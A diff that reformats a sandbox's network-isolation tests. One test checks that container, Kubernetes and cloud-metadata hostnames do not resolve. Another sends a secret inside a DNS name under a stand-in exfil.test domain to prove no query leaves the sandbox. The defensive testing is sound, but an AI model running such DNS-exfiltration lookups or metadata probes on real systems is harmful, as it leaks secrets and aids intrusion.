@@ -11,13 +11,37 @@ import { awake, awakeUdp, nonce, tcpWitness, udpWitness } from './witnesses.ts'
 
 it('NET-04 names of hosts and engines do not exist; the tables hold this cell alone', async () => {
   const world = makeWorld()
-  const names = ['host.docker.internal', 'gateway.docker.internal', 'host.containers.internal', 'kubernetes.default.svc', 'metadata.google.internal', 'host.anchorhold.internal', '_gateway', os.hostname(), `${os.hostname()}.local`, 'wpad', 'isatap', 'evil.test', 'api.allowed.test.evil.test', 'xn--80ak6aa92e.test']
-  const came = await inside(world, ['--allow', 'api.allowed.test'], [...names, 'api.allowed.test', 'API.Allowed.TEST.'].map((name) => ({ kind: 'look', name })))
+  const names = [
+    'host.docker.internal',
+    'gateway.docker.internal',
+    'host.containers.internal',
+    'kubernetes.default.svc',
+    'metadata.google.internal',
+    'host.anchorhold.internal',
+    '_gateway',
+    os.hostname(),
+    `${os.hostname()}.local`,
+    'wpad',
+    'isatap',
+    'evil.test',
+    'api.allowed.test.evil.test',
+    'xn--80ak6aa92e.test',
+  ]
+  const came = await inside(
+    world,
+    ['--allow', 'api.allowed.test'],
+    [...names, 'api.allowed.test', 'API.Allowed.TEST.'].map((name) => ({ kind: 'look', name })),
+  )
   expect(came.slice(0, names.length).map(({ error }) => error)).toEqual(names.map(() => 'ENOTFOUND'))
   // Control: the allowed name has one made-up address, whatever its spelling.
   expect(came.slice(-2).map(({ addresses }) => addresses)).toEqual([['198.18.0.2'], ['198.18.0.2']])
-  const { stdout } = await inCell(world, 'grep -hv "^#" /etc/hosts /etc/resolv.conf /etc/hostname; uname -n; ls /etc/hosts.allow /etc/host.conf /etc/nscd.conf 2>/dev/null; :')
-  expect(stdout).toBe('127.0.0.1 localhost anchorhold\n::1 localhost\nnameserver 127.0.0.1\noptions timeout:5 attempts:1\nanchorhold\nanchorhold\n')
+  const { stdout } = await inCell(
+    world,
+    'grep -hv "^#" /etc/hosts /etc/resolv.conf /etc/hostname; uname -n; ls /etc/hosts.allow /etc/host.conf /etc/nscd.conf 2>/dev/null; :',
+  )
+  expect(stdout).toBe(
+    '127.0.0.1 localhost anchorhold\n::1 localhost\nnameserver 127.0.0.1\noptions timeout:5 attempts:1\nanchorhold\nanchorhold\n',
+  )
 })
 
 /** Asks a server on the host for a name that holds the secret: over UDP, TCP and DNS's own TLS port, to public resolvers and to the witness. */
@@ -48,7 +72,11 @@ it('NET-08 no question reaches a server outside: system resolver, raw UDP and TC
   await awake(tcp, { host: '127.0.0.1', port: tcp.port })
   writeFileSync(path.join(world.project, 'ask.mjs'), asker)
   const name = `${secret}.${'a'.repeat(60)}.exfil.test`
-  const { stdout, code } = await inCell(world, `node ask.mjs ${name} ${udp.port} && node ask.mjs ${name} ${tcp.port}; getent hosts ${name}; getent ahostsv6 x.${name}; :`, ['--allow', '*.wild.test'])
+  const { stdout, code } = await inCell(
+    world,
+    `node ask.mjs ${name} ${udp.port} && node ask.mjs ${name} ${tcp.port}; getent hosts ${name}; getent ahostsv6 x.${name}; :`,
+    ['--allow', '*.wild.test'],
+  )
   expect({ code, stdout }).toEqual({ code: 0, stdout: 'asked\nasked\n' })
   expect([udp.text(), udp.hits(), tcp.text(), tcp.hits()]).toEqual(['control', 1, '', 1])
   await promisify(execFile)('node', ['ask.mjs', name, String(udp.port)], { cwd: world.project, timeout: 10_000 })
